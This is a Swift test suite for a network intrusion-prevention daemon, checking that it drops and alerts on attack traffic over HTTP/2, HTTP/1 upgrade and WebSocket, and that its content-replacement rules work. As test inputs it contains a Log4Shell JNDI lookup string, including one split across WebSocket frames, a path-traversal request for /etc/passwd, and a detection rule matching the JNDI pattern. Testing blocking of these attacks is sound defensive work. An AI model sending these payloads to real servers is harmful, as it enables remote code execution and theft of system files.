import Foundation
import TestSupport
import Testing

/// What containers speak to each other without TLS, between real ends, through the daemon on the kernel's queue.
@Suite(.serialized, .enabled(if: TestTopology.isSupported, "needs root and network namespaces"), .timeLimit(.minutes(3)))
struct ContainerProtocolTests {
    private let log4shell = ["-A", "${jndi:ldap://198.18.200.2/a}", "--max-time", "1"]

    @Test func http2WithPriorKnowledgeAndByUpgrade() throws {
        let site = try Site()
        try site.startDaemon(rules: "", arguments: ["--patches", "\(projectFolder)/rules"])
        let prior = ["--http2-prior-knowledge"]
        #expect(site.request("/", prior, over: site.urlOfHTTP2) == "200")
        #expect(site.request("/?a", prior + log4shell, over: site.urlOfHTTP2) == "000")
        #expect(site.request("/cgi-bin/.%2e/.%2e/etc/passwd", prior + ["--max-time", "1"], over: site.urlOfHTTP2) == "000")
        // nginx passes over the offer of an upgrade and answers in HTTP/1.
        #expect(site.request("/", ["--http2"]) == "200")
        #expect(site.request("/?a", ["--http2"] + log4shell) == "000")
        #expect(!site.serverLog.contains("${jndi") && !site.serverLog.contains("passwd"))
        try site.wait("alerts are written") { try site.events("alert").count >= 3 }
        let protocols = try site.events("alert").compactMap { $0["app_proto"] as? String }
        #expect(Set(protocols) == ["http2", "http"])
        try site.wait("requests are written") { try site.events("http").count >= 2 }
        #expect(try site.endDaemon() == 0)
    }

    @Test func webSocketMessages() throws {
        let site = try Site()
        try site.startDaemon(rules: "drop websocket any any -> any any (websocket.payload; content:\"${jndi:\"; sid:1;)\n")
        let (client, server) = try Self.connection(site, port: 8182)
        #expect(client.send(WebSocketBytes.request()) && server.receive(upTo: 20).starts(with: "GET /chat".utf8))
        #expect(server.send(WebSocketBytes.answer()) && client.receive()?.starts(with: "HTTP/1.1 101".utf8) == true)
        let question = WebSocketBytes.frame("jndi")
        #expect(client.send(question) && server.receive(upTo: question.count) == question)
        let answer = WebSocketBytes.frame(mask: nil, "none here")
        #expect(server.send(answer) && client.receive(upTo: answer.count) == answer)
        // The exploit in two frames: the second never arrives.
        let first = WebSocketBytes.frame(flags: 0, "user=${jn")
        #expect(client.send(first) && server.receive(upTo: first.count) == first)
        client.send(WebSocketBytes.frame(opcode: 0, "di:ldap://x}"))
        server.setTimeout(milliseconds: 700)
        #expect(server.receive() == nil)
        try site.wait("the alert is written") { try site.events("alert").count == 1 }
        let alert = try #require(try site.events("alert").first)
        #expect(alert["app_proto"] as? String == "websocket")
        #expect((alert["websocket"] as? [String: Any])?["opcode"] as? String == "continuation")
        try site.wait("frames are written") { try site.events("websocket").count >= 3 }
        #expect(try site.endDaemon() == 0)
    }

    /// The kernel hands data to a receiver only when the checksum is right.
    @Test func replacedBytesArrive() throws {
        let site = try Site()
        try site.startDaemon(
            rules: """
                alert tcp any any -> any any (content:"evil"; replace:"good"; sid:1;)
                alert udp any any -> any any (content:"evil"; replace:"good"; sid:2;)

                """)
        let (client, server) = try Self.connection(site, port: 8183)
        for (text, expected) in [("an evil word", "an good word"), ("a plain one", "a plain one"), ("evil", "good")] {
            #expect(client.send(Array(text.utf8)))
            #expect(String(decoding: server.receive(upTo: text.utf8.count), as: UTF8.self) == expected)
        }
        let topology = site.topology
        let receiver = try TestSocket.bound(.udp, to: TestTopology.serverIPv4, port: 9, in: topology.server)
        let sender = try #require(try TestSocket.connected(.udp, to: TestTopology.serverIPv4, port: 9, in: topology.client))
        for (text, expected) in [("an evil datagram", "an good datagram"), ("plain", "plain")] {
            #expect(sender.send(Array(text.utf8)))
            #expect(receiver.receive().map { String(decoding: $0, as: UTF8.self) } == expected)
        }
        try site.wait("alerts are written") { try site.events("alert").count >= 3 }
        #expect(try site.endDaemon() == 0)
    }

    private static func connection(_ site: Site, port: UInt16) throws -> (client: TestSocket, server: TestSocket) {
        let listener = try TestSocket.bound(.tcp, to: TestTopology.serverIPv4, port: port, in: site.topology.server)
        let client = try #require(
            try TestSocket.connected(.tcp, to: TestTopology.serverIPv4, port: port, in: site.topology.client))
        return (client, try #require(listener.accept()))
    }
}
